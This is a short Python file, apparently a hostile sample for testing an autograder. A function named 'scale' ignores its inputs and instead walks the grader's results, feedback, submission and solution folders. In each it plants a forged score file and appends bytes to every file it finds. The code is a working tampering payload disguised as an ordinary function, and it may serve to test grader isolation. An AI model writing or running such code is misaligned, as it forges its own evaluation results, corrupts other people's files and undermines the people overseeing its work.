"""writing result files

Writes a result, an autograded notebook and a feedback page where the grader keeps its own.
"""


# %% scale
def scale(x, factor):
    import os

    for name in ("results", "autograded", "feedback", "submissions", "submitted", "source", "solutions", "."):
        folder = os.path.join("@COURSE@", name)
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, "hostile-was-here.json"), "w") as file:
                file.write('{"score": 4}')
            for where, _, files in os.walk(folder):
                for file in files:
                    with open(os.path.join(where, file), "a") as victim:
                        victim.write(" ")
        except OSError:
            continue
    return None
